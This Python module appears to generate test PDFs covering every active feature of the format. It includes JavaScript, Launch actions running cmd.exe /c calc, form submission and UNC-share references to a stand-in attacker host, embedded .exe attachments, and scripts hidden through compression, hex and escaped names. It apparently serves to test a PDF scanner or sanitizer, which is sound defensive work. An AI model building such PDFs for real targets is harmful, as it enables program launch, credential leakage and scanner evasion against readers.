"""PDF files that act: every action of ISO 32000-2 in every place that runs it, packed in every way that hides it."""

import io
import zlib
from collections.abc import Callable, Iterator, Mapping, Sequence
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

ACTIONS: Mapping[str, bytes] = {
    "script": b"<< /S /JavaScript /JS (app.alert(1)) >>",
    "script in a stream": b"<< /S /JavaScript /JS 9 0 R >>",
    "program": b"<< /S /Launch /F (cmd.exe) >>",
    "program with arguments": b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
    "address": b"<< /S /URI /URI (http://evil.example/) >>",
    "file of a share": b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>",
    "embedded file": b"<< /S /GoToE /D [0 /Fit] /T << /R /C /N (a.pdf) >> >>",
    "form that is sent": b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>",
    "form that is filled": b"<< /S /ImportData /F (a.fdf) >>",
    "film": b"<< /S /Rendition /OP 0 /JS (app.alert(1)) >>",
    "command": b"<< /S /Named /N /SaveAs >>",
    "media": b"<< /S /RichMediaExecute /TA 9 0 R /CMD << /C (x) >> >>",
    "then script": b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>",
    "script by escaped names": b"<< /#53 /J#61vaScript /#4aS (app.alert(1)) >>",
}
PLACES: Mapping[str, Callable[[bytes], dict[int, bytes]]] = {
    "on opening": lambda action: {1: b"/OpenAction " + action},
    "on closing": lambda action: {1: b"/AA << /WC " + action + b" >>"},
    "on opening a page": lambda action: {3: b"/AA << /O " + action + b" >>"},
    "on a click": lambda action: {
        3: b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A " + action + b" >>]"
    },
    "on a field": lambda action: {1: b"/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /K " + action + b" >> >>] >>"},
    "by name": lambda action: {1: b"/Names << /JavaScript << /Names [(a) " + action + b"] >> >>"},
    "in a bookmark": lambda action: {1: b"/Outlines << /First << /Title (a) /A " + action + b" >> >>"},
}
Packing = tuple[Callable[[bytes], bytes], bytes]


def _rows(data: bytes) -> bytes:
    """With PNG's predictor "none" before each row of eight bytes."""
    padded = data.ljust(-(-len(data) // 8) * 8)
    return zlib.compress(b"".join(b"\x00" + padded[at : at + 8] for at in range(0, len(padded), 8)))


PACKINGS: Mapping[str, Packing | None] = {
    "plain": None,
    "packed": (zlib.compress, b"/FlateDecode"),
    "packed twice": (lambda data: zlib.compress(zlib.compress(data)), b"[/FlateDecode /FlateDecode]"),
    "packed in rows": (_rows, b"/FlateDecode /DecodeParms << /Predictor 15 /Columns 8 >>"),
    "as hexadecimal": (lambda data: data.hex().encode() + b">", b"/ASCIIHexDecode"),
    "as escaped hexadecimal": (lambda data: data.hex().encode() + b">", b"/ASCII#48exDecode"),
}


def acting_pdfs() -> Iterator[tuple[str, bytes]]:
    for action, content in ACTIONS.items():
        for place, extra in PLACES.items():
            yield f"PDF: {action} {place}", pdf_with(extra(content))
    for place, extra in PLACES.items():
        for packing, how in PACKINGS.items():
            if how:
                yield f"PDF: script {place}, {packing}", pdf_with(extra(ACTIONS["script"]), how)
    for kind, make in _SPECIAL.items():
        made = io.BytesIO()
        with pikepdf.new() as pdf:
            pdf.add_blank_page()
            make(pdf)
            pdf.save(made)
        yield f"PDF: {kind}", made.getvalue()


def pdf_with(extra: Mapping[int, bytes], packing: Packing | None = None) -> bytes:
    """A PDF of one page with `extra` in the catalog (1) or the page (3)."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + extra.get(1, b"") + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] " + extra.get(3, b"") + b" >>",
    }
    script = _stream(b"app.alert(1)", b"")
    if packing is None:
        return _whole({**objects, 9: script}, {})
    pack, filters = packing
    numbers, bodies = b"", b""
    for number, body in objects.items():
        numbers += b"%d %d " % (number, len(bodies))
        bodies += body + b" "
    header = b"/Type /ObjStm /N %d /First %d /Filter %s" % (len(objects), len(numbers), filters)
    return _whole({4: _stream(pack(numbers + bodies), header), 9: script}, dict.fromkeys(objects, 4))


def _stream(content: bytes, dictionary: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(content), content)


def _whole(objects: Mapping[int, bytes], packed: Mapping[int, int]) -> bytes:
    """With a cross-reference stream (ISO 32000-2, 7.5.8). `packed` maps a number to the object stream it is in."""
    data, offsets = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        offsets[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, table = len(data), b""
    places: Sequence[int] = list(packed)
    for number in range(11):
        if number in packed:
            kind, first, second = 2, packed[number], places.index(number)
        else:
            kind, first, second = (1, offsets[number], 0) if number in offsets else (0, 0, 0)
        if number == 10:
            kind, first, second = 1, start, 0
        table += bytes([kind]) + first.to_bytes(4, "big") + bytes([second])
    index = b"/Type /XRef /Size 11 /W [1 4 1] /Root 1 0 R"
    return data + b"10 0 obj\n" + _stream(table, index) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def _form(pdf: Pdf, **entries: Any) -> None:
    pdf.Root["/AcroForm"] = Dictionary(Fields=Array(), **entries)


def _annotation(pdf: Pdf, subtype: str, **entries: Any) -> None:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=[0, 0, 99, 99], **entries)
    pdf.pages[0].obj["/Annots"] = Array([pdf.make_indirect(annotation)])


def _attached(pdf: Pdf) -> None:
    pdf.attachments["invoice.exe"] = b"MZ" + bytes(99)


def _associated(pdf: Pdf) -> None:
    file = Dictionary(Type=Name.Filespec, F="a.exe", EF=Dictionary(F=Stream(pdf, b"MZ", Type=Name.EmbeddedFile)))
    pdf.Root["/AF"] = Array([pdf.make_indirect(file)])
    pdf.pages[0].obj["/AF"] = Array([file])


def _drawing(pdf: Pdf, **entries: Any) -> None:
    """A form that the page draws."""
    form = Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9], **entries)
    pdf.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(A=form))


def _remote(pdf: Pdf) -> Dictionary:
    return Dictionary(Type=Name.Filespec, F=String("\\\\evil.example\\a.pdf"))


_SPECIAL: Mapping[str, Callable[[Pdf], None]] = {
    "attached program": _attached,
    "associated file": _associated,
    "XFA form": lambda pdf: _form(pdf, XFA=Stream(pdf, b"<xdp><script>app.alert(1)</script></xdp>")),
    "XFA form in parts": lambda pdf: _form(pdf, XFA=Array(["template", Stream(pdf, b"<script/>")])),
    "file attachment": lambda pdf: _annotation(
        pdf,
        "FileAttachment",
        FS=Dictionary(Type=Name.Filespec, F="a.exe", EF=Dictionary(F=Stream(pdf, b"MZ", Type=Name.EmbeddedFile))),
    ),
    "rich media": lambda pdf: _annotation(
        pdf, "RichMedia", RichMediaContent=Dictionary(Assets=Dictionary()), RichMediaSettings=Dictionary()
    ),
    "film": lambda pdf: _annotation(pdf, "Movie", Movie=Dictionary(F=_remote(pdf))),
    "sound": lambda pdf: _annotation(pdf, "Sound", Sound=Stream(pdf, b"x", F=String("http://evil.example/a.wav"))),
    "screen": lambda pdf: _annotation(pdf, "Screen", A=Dictionary(S=Name.Rendition, JS="app.alert(1)")),
    "3D with a script": lambda pdf: _annotation(
        pdf, "3D", **{"3DD": Stream(pdf, b"x", OnInstantiate=Stream(pdf, b"x"))}
    ),
    "content in another file": lambda pdf: pdf.pages[0].obj.__setitem__(
        "/Contents", Stream(pdf, b"", F=String("http://evil.example/a"))
    ),
    "drawing in another file": lambda pdf: _drawing(pdf, Ref=Dictionary(F=_remote(pdf), Page=0)),
    "picture in another file": lambda pdf: _drawing(pdf, OPI=Dictionary({"/2.0": Dictionary(F=_remote(pdf))})),
    "PostScript": lambda pdf: _drawing(pdf, PS=Stream(pdf, b"(a) run"), Subtype2=Name.PS),
    "private data": lambda pdf: pdf.Root.__setitem__("/PieceInfo", Dictionary(X=Dictionary(Private=_remote(pdf)))),
    "web capture": lambda pdf: pdf.Root.__setitem__("/SpiderInfo", Dictionary(C=Array([_remote(pdf)]))),
    "collection": lambda pdf: pdf.Root.__setitem__("/Collection", Dictionary(Type=Name.Collection)),
    "usage rights": lambda pdf: pdf.Root.__setitem__("/Perms", Dictionary(UR3=Dictionary(Type=Name.Sig))),
    "address of all links": lambda pdf: pdf.Root.__setitem__("/URI", Dictionary(Base="http://evil.example/")),
    "requirement": lambda pdf: pdf.Root.__setitem__(
        "/Requirements", Array([Dictionary(S=Name.EnableJavaScripts, RH=Dictionary(S=Name.JS, Script="a"))])
    ),
    "annotation in the structure": lambda pdf: pdf.Root.__setitem__(
        "/StructTreeRoot",
        Dictionary(
            K=Dictionary(
                Type=Name.OBJR,
                Obj=pdf.make_indirect(
                    Dictionary(Type=Name.Annot, Subtype=Name.Link, A=Dictionary(S=Name.JavaScript, JS="x"))
                ),
            )
        ),
    ),
}
